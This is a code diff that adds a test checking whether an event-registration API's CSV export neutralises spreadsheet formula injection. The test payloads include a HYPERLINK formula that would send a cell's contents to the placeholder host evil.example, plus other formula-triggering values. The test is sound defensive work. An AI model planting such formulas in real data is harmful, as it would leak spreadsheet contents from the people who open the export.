@@ -453,3 +453,25 @@ async def test_csv_export_for_organizers(
         ["1", "Durand; Marie-Hélène", "mh@exemple.fr", "", "confirmed", "", "oui"],
         ["2", 'Loïc "Lolo" Le Gall', "loic@exemple.fr", "", "waitlisted", "1", ""],
     ]
+
+
+async def test_csv_export_never_writes_a_formula(
+    anonymous: httpx.AsyncClient, admin: httpx.AsyncClient, new_event: NewEvent
+) -> None:
+    event = await new_event()
+    url = f"/v1/events/{event['id']}/registrations"
+    formula = '=HYPERLINK("http://evil.example/?x="&C2,"Voir")'
+    registered = await anonymous.post(url, json={"name": formula, "email": "-2+3@exemple.fr"})
+    assert registered.status_code == 201, registered.text
+    await anonymous.post(url, json={"name": "@SOMME(A1:A9)", "email": "ok@exemple.fr"})
+
+    export = await admin.get(f"{url}.csv")
+    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
+    assert [row[1:3] for row in rows[1:]] == [
+        ["'" + formula, "'-2+3@exemple.fr"],
+        ["'@SOMME(A1:A9)", "ok@exemple.fr"],
+    ]
+    # The API itself keeps what was typed: only the spreadsheet cells are quoted.
+    assert (await admin.get(f"/v1/registrations/{registered.json()['id']}")).json()[
+        "name"
+    ] == formula
